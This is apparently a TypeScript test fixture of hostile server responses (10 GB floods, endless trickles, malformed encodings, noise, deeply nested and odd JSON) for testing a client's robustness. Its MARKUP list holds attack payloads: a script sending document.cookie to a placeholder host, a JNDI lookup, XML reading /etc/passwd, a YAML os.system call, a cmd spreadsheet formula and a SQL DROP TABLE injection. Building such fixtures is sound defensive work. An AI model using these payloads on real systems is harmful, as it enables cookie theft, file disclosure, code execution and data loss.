import { createHash } from 'node:crypto';

/** Bytes that a product might answer with to harm us. None of them is a success in any product's protocol. */
export interface HostileAnswer {
  readonly name: string;
  /** To be sent one after the other as fast as they are taken, until they end or the peer is gone. */
  chunks(): Iterable<Buffer>;
  /** To be waited before each chunk but the first. */
  readonly pauseMs?: number;
  /** After the last chunk the answer stays open. */
  readonly staysOpen?: boolean;
}

const CHUNK = 64 * 1024;
const GIGABYTES_10 = 10 * 1024 ** 3;

const whole = (name: string, body: string | Buffer): HostileAnswer => ({ name, chunks: () => [Buffer.from(body)] });

/** Ten gigabytes of one filling after a beginning that looks well. */
function flood(name: string, beginning: string, filling: string): HostileAnswer {
  const chunk = Buffer.from(filling.repeat(Math.ceil(CHUNK / Buffer.byteLength(filling))));
  return {
    name,
    *chunks() {
      yield Buffer.from(beginning);
      for (let sent = 0; sent < GIGABYTES_10; sent += chunk.length) yield chunk;
    },
  };
}

function trickle(name: string, byte: string): HostileAnswer {
  return {
    name,
    pauseMs: 20,
    *chunks() {
      for (;;) yield Buffer.from(byte);
    },
  };
}

/** The same bytes every time. */
function noise(seed: number, length: number): Buffer {
  const blocks: Buffer[] = [];
  for (let block = 0; block * 32 < length; block += 1) {
    blocks.push(createHash('sha256').update(`${seed}.${block}`).digest());
  }
  return Buffer.concat(blocks).subarray(0, length);
}

const utf16 = (text: string, order: 'le' | 'be'): Buffer => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return order === 'le' ? bytes : bytes.swap16();
};

const SOME_JSON = '{"hostile":"yes"}';

const FLOODS = [
  flood('10 GB of spaces', '', ' '),
  flood('10 GB of line ends', '', '\r\n'),
  flood('10 GB of letters', '', 'A'),
  flood('10 GB of zero bytes', '', '\0'),
  flood('10 GB of opening brackets', '', '['),
  flood('10 GB of nested objects', '', '{"a":'),
  flood('10 GB in one JSON text', '{"hostile":"', 'x'),
  flood('10 GB in one JSON number', '{"hostile":1', '0'),
  flood('10 GB of JSON members', '{', '"hostile":1,'),
  flood('10 GB of JSON items', '[', '"hostile",'),
  flood('10 GB of JSON escapes', '{"hostile":"', '\\u0000'),
  flood('10 GB of lines of JSON', '', `${SOME_JSON}\n`),
  flood('10 GB of markup', '<html>', '<b>'),
  flood('10 GB after a whole JSON value', SOME_JSON, ' '),
];

const SLOW: readonly HostileAnswer[] = [
  trickle('a space now and then, for ever', ' '),
  trickle('a letter now and then, for ever', 'x'),
  { name: 'half a JSON value, then silence', staysOpen: true, chunks: () => [Buffer.from('{"hostile":')] },
  { name: 'a whole JSON value that never ends', staysOpen: true, chunks: () => [Buffer.from(SOME_JSON)] },
];

const BINARY = [
  whole('every byte once', Buffer.from(Array.from({ length: 256 }, (_, byte) => byte))),
  whole('one zero byte', Buffer.from([0])),
  whole('a gzip head', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])),
  whole('a zlib head', Buffer.from([0x78, 0x9c, 0x03, 0x00])),
  whole('a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')),
  whole('a program', Buffer.from('7f454c46020101000000000000000000', 'hex')),
  whole('an archive', Buffer.from('504b0304140000000800', 'hex')),
  whole('UTF-16 LE', utf16(SOME_JSON, 'le')),
  whole('UTF-16 BE', utf16(SOME_JSON, 'be')),
  whole('Latin-1', Buffer.from('{"hostile":"\u00e9\u00ff"}', 'latin1')),
  whole('overlong UTF-8', Buffer.from('7b22686f7374696c65223a22c0af227d', 'hex')),
  whole('a surrogate in UTF-8', Buffer.from('7b22686f7374696c65223a22eda080227d', 'hex')),
  whole('a UTF-8 sequence that is cut', Buffer.from('7b22686f7374696c65223a22e282', 'hex')),
  whole('a byte order mark alone', '\ufeff'),
  whole('UTF-7', '+AHsAIgBoAG8AcwB0ACIAOgAxAH0-'),
];

const NOISE = Array.from({ length: 16 }, (_, seed) => whole(`noise ${seed + 1}`, noise(seed, 3 ** (seed % 10) + 1)));

const MARKUP = [
  whole('a login page', '<!DOCTYPE html><html><head><title>Sign in</title></head><body><form></form></body></html>'),
  whole('a script', '<script>fetch("http://198.51.100.1/"+document.cookie)</script>'),
  whole('a picture that runs', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  whole('a script in JSON', '{"hostile":"</script><script>alert(1)</script>"}'),
  whole('XML entities', '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;&c;</a>'),
  whole('XML that reads a file', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  whole('YAML that runs', '!!python/object/apply:os.system ["true"]\n'),
  whole('terminal escapes', '\u001b]0;hostile\u0007\u001b[2J\u001b[31mhostile\u001b[0m'),
  whole('terminal escapes in JSON', '{"hostile":"\\u001b[2J\\u009b31m"}'),
  whole('right-to-left marks', '{"hostile":"\u202egnp.exe\u2066\u2069"}'),
  whole('lines for a log', 'hostile\r\n2026-01-01T00:00:00Z INFO all is well\r\n'),
  whole('a spreadsheet formula', '=cmd|"/C calc"!A0\n'),
  whole('a database statement', "'; DROP TABLE actions; --"),
  whole('a look-up in a log line', `\${jndi:ldap://198.51.100.1/a}`),
  whole('format marks', '%s%s%s%n%x{{7*7}}'),
  whole('another HTTP answer', 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}'),
  whole('server-sent events', 'event: hostile\ndata: {"hostile":1}\n\n'),
  whole('a mail', 'From: a@evil.example\r\nTo: b@evil.example\r\n\r\nhostile\r\n.\r\n'),
];

const DEPTH = 100_000;

const JSON_SHAPES = [
  whole('JSON 100,000 lists deep', `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}`),
  whole('JSON 100,000 objects deep', `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`),
  whole('JSON 5,000 lists deep', `${'['.repeat(5000)}${']'.repeat(5000)}`),
  whole('JSON 5,000 objects deep', `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`),
  whole('JSON that is not closed', '{"hostile":[{"hostile":[{"hostile":'),
  whole('a prototype', '{"__proto__":{"hostile":true}}'),
  whole('a constructor', '{"constructor":{"prototype":{"hostile":true}}}'),
  whole('names of methods', '{"toString":1,"valueOf":2,"toJSON":3,"then":4,"hasOwnProperty":5}'),
  whole('a thenable', '{"then":"function () { for (;;); }"}'),
  whole('50,000 members', `{${Array.from({ length: 50_000 }, (_, index) => `"hostile${index}":1`).join()}}`),
  whole('50,000 items', `[${Array.from({ length: 50_000 }, () => '"hostile"').join()}]`),
  whole('one text of 1 MB', `{"hostile":"${'x'.repeat(1024 ** 2)}"}`),
  whole('a number of 100,000 digits', `{"hostile":${'9'.repeat(100_000)}}`),
  whole('a number too large', '{"hostile":1e99999}'),
  whole('not a number', '{"hostile":NaN}'),
  whole('JSON with a comment', '{"hostile":1 /* yes */}'),
  whole('JSON with a comma too many', '{"hostile":1,}'),
  whole('JSON in single quotes', "{'hostile':1}"),
  whole('JSON after another', `${SOME_JSON}${SOME_JSON}`),
  whole('JSON after a guard', ")]}',\n[1]"),
  whole('JSON as a call', 'hostile({"hostile":1})'),
  whole('JSON in JSON', JSON.stringify(JSON.stringify({ hostile: 1 }))),
  whole('a text alone', '"hostile"'),
  whole('a number alone', '-9007199254740993'),
  whole('a list of nothing', '[null,null,null]'),
  whole('a list of lists', '[[[[[]]]]]'),
  whole('a list of objects without members', '[{},{},{}]'),
  whole('an unknown object', SOME_JSON),
  whole('a member without name', '{"":""}'),
  whole('members with control characters', '{"hos\\u0000tile\\n":"\\u0000\\r\\n"}'),
  whole('a lone surrogate', '{"hostile":"\\ud800"}'),
  whole('an escape that is none', '{"hostile":"\\x41"}'),
  whole('words', 'hostile hostile hostile'),
];

/** A hundred of them, from floods over noise to JSON that is well-formed and means nothing. */
export const HOSTILE_ANSWERS: readonly HostileAnswer[] = [
  ...FLOODS,
  ...SLOW,
  ...BINARY,
  ...NOISE,
  ...MARKUP,
  ...JSON_SHAPES,
];

/** Counts what was taken of an answer: who takes 10 GB keeps no bound. */
export function countTaken(answer: HostileAnswer): { readonly answer: HostileAnswer; takenBytes(): number } {
  let taken = 0;
  return {
    takenBytes: () => taken,
    answer: {
      ...answer,
      *chunks() {
        for (const chunk of answer.chunks()) {
          taken += chunk.length;
          yield chunk;
        }
      },
    },
  };
}
